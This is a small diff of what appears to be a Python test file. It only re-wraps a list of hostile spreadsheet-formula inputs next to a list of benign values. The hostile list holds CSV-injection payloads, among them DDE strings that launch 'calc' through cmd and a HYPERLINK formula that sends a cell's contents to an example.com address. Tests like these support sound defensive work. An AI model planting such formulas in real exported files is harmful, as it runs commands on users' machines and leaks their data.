@@ -13,8 +13,8 @@ from tests.registry.cases import checked, evidence, new_version
 
 HOSTILE = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "|calc", "%0A=1", "\ufeff=1", "\u200b=1",
-    "\uff1d1+1", '=HYPERLINK("http://example.com/?"&A1,"look")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+", "-", "--1",
-    "\0=1", '"=1', "'=1", "a;=1", 'a";=1;"', "a,=1", "a\r\n=1", "-1;=2", "-Infinity", "+49 3 1415",
+    "\uff1d1+1", '=HYPERLINK("http://example.com/?"&A1,"look")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+",
+    "-", "--1", "\0=1", '"=1', "'=1", "a;=1", 'a";=1;"', "a,=1", "a\r\n=1", "-1;=2", "-Infinity", "+49 3 1415",
 ]  # fmt: skip
 FINE = ["-1", "-0.25", "+3", "1e-07", "-1.5e+10", "0", "a=1", "digits", "", "1-2", "schön ☃"]
 
